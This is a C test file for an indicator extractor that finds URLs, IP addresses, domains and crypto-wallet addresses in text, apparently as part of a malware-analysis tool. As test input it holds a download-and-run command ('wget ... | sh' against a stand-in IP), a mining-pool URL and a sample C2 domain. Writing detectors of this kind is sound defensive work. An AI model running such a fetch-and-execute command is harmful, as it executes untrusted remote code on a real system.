/* Addresses, names and wallets in text. */
#include "analyze/process/indicator.h"

#include <criterion/criterion.h>

static void expect(const char *text, const char *kind, const char *value)
{
    struct indicator i;
    struct bytes b = bytes_str(text);
    struct indicator_walk w = indicator_walk(b);
    bool found = indicator_next(&w, &i) || wallet_find(b, 0, &i);
    cr_assert_eq(found, kind != NULL, "%s", text);
    if (!found)
        return;
    cr_assert_str_eq(i.kind, kind, "%s", text);
    cr_assert(bytes_is(bytes_sub(b, i.at, i.length), value), "%s", text);
}

Test(indicator, kinds)
{
    expect("wget -q http://198.51.100.23/u.sh | sh", "url", "http://198.51.100.23/u.sh");
    expect("x=stratum+tcp://pool.example:3333;", "url",
           "stratum+tcp://pool.example:3333;");
    expect("to 198.51.100.23:4444", "ipv4", "198.51.100.23");
    expect("c2.evil-host.xyz,", "domain", "c2.evil-host.xyz");
    expect("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "bitcoin",
           "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq");
    expect("0x52908400098527886E0F7030069857D2E4169EE7", "ethereum",
           "0x52908400098527886E0F7030069857D2E4169EE7");
}

Test(indicator, what_is_none)
{
    expect("10.0.0.1 127.0.0.1 192.168.1.1 169.254.169.254 100.64.0.1", NULL, NULL);
    expect("1.2.3.4.5 999.1.1.1 1.02.3.4", NULL, NULL);
    expect("lib.so main.c a.b http:// x://y", NULL, NULL);
    expect("", NULL, NULL);
}

/* What stands in one that was told, or goes on from it, is not told again. */
Test(indicator, each_is_told_once)
{
    static const char *const values[] = {
        "http://a.example.com:80/x.y?u=http://b.example.org", "198.51.100.23",
        "c2.evil-host.xyz", "d.example.net", "ftp://203.0.113.9/e.com"};
    const char *text = "http://a.example.com:80/x.y?u=http://b.example.org "
                       "198.51.100.23:c2.evil-host.xyz,d.example.net,lib.so\n"
                       "ftp://203.0.113.9/e.com";
    struct indicator_walk w = indicator_walk(bytes_str(text));
    struct indicator i;
    for (size_t k = 0; k < sizeof values / sizeof *values; k++) {
        cr_assert(indicator_next(&w, &i), "%s", values[k]);
        cr_assert(bytes_is(bytes_sub(bytes_str(text), i.at, i.length), values[k]), "%s",
                  values[k]);
    }
    cr_assert_not(indicator_next(&w, &i));
    cr_assert_not(indicator_next(&w, &i));
}
